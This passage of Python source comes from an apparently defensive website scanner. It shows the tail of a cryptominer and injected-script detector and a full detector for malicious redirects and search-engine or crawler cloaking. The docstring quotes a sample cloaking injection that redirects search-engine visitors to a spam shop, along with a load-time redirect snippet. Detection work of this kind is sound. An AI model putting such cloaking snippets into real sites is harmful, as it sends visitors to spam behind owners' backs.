                miner = 1.0
                findings.append(Finding(self.id, self.kind, "high", "high", f"inline script runs a cryptominer ({it.detail})",
                                        _ev(it, {"script_index": idx})))
                break
        for where, url, dom, shape, obf in rep.outside_html:
            if dom or obf:
                strong = strong_shape(shape)
                # hosting providers append their own scripts after </html> too: only a
                # throwaway-looking host or obfuscated code makes it a strong sign
                sev, conf = ("high", "medium") if (strong or obf) else ("medium", "low")
                what = f"loads {dom}" if dom else "runs obfuscated code"
                if dom and obf:
                    what += " with obfuscated code"
                findings.append(Finding(
                    self.id, self.kind, sev, conf,
                    f"script {where} {what}: code pasted outside the document, as injections are"
                    + (f" ({', '.join(shape)})" if shape else ""),
                    {"where": "html", "url": url, "domain": dom, "shape": list(shape), "snippet": where},
                ))
        feats = {
            "unknown_script_domains_log": math.log1p(len(rep.unknown_script_domains)),
            "suspicious_script_hosts": math.log1p(len(rep.suspicious_srcs)),
            "third_party_script_share": rep.n_third_party / rep.n_scripts if rep.n_scripts else 0.0,
            "writes_foreign_resource": writes,
            "tiny_hidden_iframes_log": math.log1p(len(rep.tiny_frames)),
            "tiny_foreign_iframe_suspicious": float(any(shape for _, _, shape in rep.tiny_frames)),
            "foreign_iframe_domains_log": math.log1p(len(rep.foreign_frames)),
            "outside_html": float(outside),
            "miner": miner,
            "hidden_frame_entry": frame_entry,
            "hidden_frame_once": frame_once,
            "hidden_frame_entry_once_edge": frame_agree,
            "loader_agreement": loader_agree,
            "library_name_foreign_src": lib_name,
            "foreign_at_edge": at_edge,
        }
        return findings, feats


class RedirectCloaking(Detector):
    """Redirects to other sites, and cloaking by referrer or user agent (SEO303).

    Finds ``<meta http-equiv="refresh">`` and script redirects (``location.href=``,
    ``location.replace()``, ``top.location=``) that send visitors to an unrelated domain, and the
    classic cloaking injection that redirects only visitors whose ``document.referrer`` is a
    search engine, or whose user agent is (or is not) a crawler or a phone. Owners who type
    their address never see such a redirect; searchers land on spam.

    Not counted: redirects within the site or to sister sites, frame-busting (``top.location =
    self.location``), and analytics code that reads the referrer without redirecting. A plain
    script navigation or a slow meta refresh to another site (jump menus, moved pages, mobile
    sites) is a feature, not a finding, unless the target looks throwaway.

    A short script that sends every visitor away as the page loads (no condition, no user
    action: ``setTimeout(function(){top.location.replace("...")},0)``) from a page with content
    of its own is weak evidence even to an ordinary-looking domain (feature ``redirect_at_load``);
    jump menus, search forms, buttons and device checks are not counted.

    A crawler redirect is high confidence when other gates agree (a once-per-visitor marker, a
    delay, a throwaway-looking host); redirects found in resolved obfuscated code are graded as
    SEO301 grades them.

    A redirect that runs once per visitor (a cookie or storage key is checked and set around
    it, so the owner who has been sent once never sees it again) is cloaking too: a finding even
    to an ordinary-looking domain (feature ``cookie_gated``). A redirect, a created script or a
    hidden iframe pointing at a throwaway-looking host (raw IP, abused TLD, odd port, spam words
    in the name) is high confidence.

    Example: ``if (document.referrer.match(/google|bing|yahoo/)) { window.location =
    "http://pills-shop.example/"; }``.
    """

    id = "SEO303"
    name = "redirect_cloaking"
    kind = "script_injection"
    features = ("meta_refresh_foreign", "meta_refresh_fast", "js_redirect_foreign", "referrer_conditional",
                "ua_conditional", "redirect_suspicious_host", "cookie_gated", "redirect_at_load")
    html_only = frozenset(features)

    def detect(self, page: Page):
        if not page.is_html:
            return [], {}
        site = page.site
        findings = []
        feats = dict.fromkeys(self.features, 0.0)
        refresh = page.meta("refresh")
        if refresh:
            m = _META_REFRESH.match(refresh)
            if m and m.group(2):
                target = m.group(2).strip().strip("'\"")
                if target[:4].lower() == "http" or target.startswith("//"):
                    host = host_of(target if target[:4].lower() == "http" else "http:" + target)
                    dom = registered_domain(host) if host else ""
                    if dom and foreign(site, dom):
                        delay = int(m.group(1))
                        shape = url_shape(target, host)
                        feats["meta_refresh_foreign"] = 1.0
                        feats["meta_refresh_fast"] = float(delay <= 5)
                        if shape:
                            feats["redirect_suspicious_host"] = 1.0
                        if strong_shape(shape):
                            sev, conf = "high", "medium"
                        elif delay <= 2 or (delay <= 5 and len(page.text) >= 800):
                            # fast, or soon enough to leave a page with content of its own unread
                            sev, conf = "medium", "low"
                        else:
                            sev, conf = "", ""  # a slow refresh to another site: a moved page
                        if sev:
                            findings.append(Finding(
                                self.id, self.kind, sev, conf,
                                f"meta refresh sends visitors to {dom} after {delay}s, a domain unrelated to the site"
                                + (f" ({', '.join(shape)})" if shape else ""),
                                {"where": "html", "url": target[:500], "domain": dom, "delay": delay,
                                 "shape": shape, "snippet": f'<meta http-equiv="refresh" content="{refresh[:200]}">'},
                            ))
        if page.scripts:
            rep = analyse(page)
            seen = set()
            for it, idx, decoded in rep.intents:
                if it.kind not in ("redirect", "referrer-cloak", "ua-cloak", "mobile-redirect"):
                    continue
                key = (it.kind, it.domain)
                if key in seen:
                    continue
                seen.add(key)
                where = "decoded from an obfuscated script" if decoded else "inline script"
                if it.shape:
                    feats["redirect_suspicious_host"] = 1.0
                if it.kind == "referrer-cloak":
                    feats["referrer_conditional"] = 1.0
                    conf = "high"
                    findings.append(Finding(self.id, self.kind, "high", conf,
                                            f"{where} {it.detail}: search-engine cloaking",
                                            _ev(it, {"script_index": idx})))
                elif it.kind == "ua-cloak":
                    feats["ua_conditional"] = 1.0
                    # a crawler test alone is also how pages skip work for bots; a once-per-visitor
                    # marker, a delay or a throwaway-looking host around it agree
                    findings.append(Finding(self.id, self.kind, "high", "high" if agreement(it) >= 2 else "medium",
                                            f"{where} {it.detail}: crawler cloaking", _ev(it, {"script_index": idx})))
                elif it.kind == "mobile-redirect":
                    feats["ua_conditional"] = max(feats["ua_conditional"], 0.5)
                    if "cookie-gated" in it.detail:
                        feats["cookie_gated"] = 1.0
                    gated = "cookie-gated" in it.detail
                    if strong_shape(it.shape) or decoded or gated:  # else a feature: mobile sites move too
                        # a cookie-gated mobile redirect to an ordinary domain is also how tablet and
                        # mobile-edition services remember a visitor's choice: weak without more
                        sev3, conf3 = ("high", "high") if strong_shape(it.shape) and (gated or decoded) else (
                            ("high", "medium") if strong_shape(it.shape) or decoded else ("medium", "low"))
                        findings.append(Finding(self.id, self.kind, sev3, conf3,
                                                f"{where} {it.detail}, a domain unrelated to the site (mobile sites "
                                                f"usually share the site's name)", _ev(it, {"script_index": idx})))
                else:
                    feats["js_redirect_foreign"] = 1.0
                    if "cookie-gated" in it.detail:
                        feats["cookie_gated"] = 1.0
                    at_load = not decoded and _runs_at_load(page.scripts[idx].body or "")
                    if at_load:
                        feats["redirect_at_load"] = 1.0
                    if not (strong_shape(it.shape) or decoded or "cookie-gated" in it.detail):
                        if at_load and len(page.text) >= 800:
                            # everyone is sent away as the page loads, and the page has content of its
                            # own that nobody will see (a moved page's stub has next to none)
                            findings.append(Finding(
                                self.id, self.kind, "medium", "low",
                                f"{where} {it.detail} as soon as the page loads, with no condition or user"
                                " action, a domain unrelated to the site", _ev(it, {"script_index": idx})))
                        continue  # sites send readers to their other sites this way too: a feature
                    # a navigation to a throwaway-looking host, or one hidden in encoded code
                    if it.resolved:
                        sev, conf = resolved_tier(it) or ("medium", "low")
                    elif strong_shape(it.shape):
                        sev, conf = "high", "high"
                    elif decoded:
                        sev, conf = "high", "medium"
                    else:
                        sev, conf = "medium", "low"  # cookie-gated, to an ordinary-looking domain
                    findings.append(Finding(self.id, self.kind, sev, conf,
                                            f"{where} {it.detail}, a domain unrelated to the site"
                                            + (f" ({', '.join(it.shape)})" if it.shape else ""),
                                            _ev(it, {"script_index": idx})))
        return findings, feats
